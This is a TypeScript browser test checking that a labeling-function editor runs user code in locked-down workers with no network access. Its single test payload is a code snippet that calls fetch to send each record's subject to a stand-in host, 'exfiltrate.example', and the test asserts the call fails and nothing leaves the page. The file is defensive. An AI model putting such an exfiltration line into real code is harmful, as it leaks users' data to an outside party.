/**
 * An LF cannot send data out: its worker has no network APIs (src/workers/lockdown.ts). A code
 * LF that tries to fetch gets an error on that LF, no request is made, and LFs still read their
 * rows from IndexedDB (the starter LFs run to completion in the same locked-down workers).
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { browserSuite, Harness } from './harness.ts';
import { lfRow, openDemoLfs, writeCodeLf } from './lf-editor.ts';

browserSuite('LF workers are locked down', () => {
  const h = new Harness();
  h.screenshotOnFailure();
  beforeAll(async () => {
    await h.start();
  });
  afterAll(async () => {
    await h.close();
  });

  it('a code LF that calls fetch fails on that LF and sends nothing', async () => {
    // The starter LFs read their chunks from IndexedDB inside locked-down workers.
    await openDemoLfs(h);
    const page = h.page;

    await writeCodeLf(
      page,
      'phones_home',
      "(x) => { fetch('https://exfiltrate.example/?s=' + encodeURIComponent(x.subject)); return null; }",
    );
    await page.getByTestId('lf-save').click();
    const error = lfRow(page, 'phones_home').getByTestId('lf-error');
    await error.waitFor({ timeout: 60_000 });
    expect(await error.textContent()).toMatch(/fetch/);
    await h.shot('lockdown-lf-error');
    expect(h.requests.some((r) => r.url.includes('exfiltrate.example'))).toBe(false);
    h.assertNoEgress();
  });
});
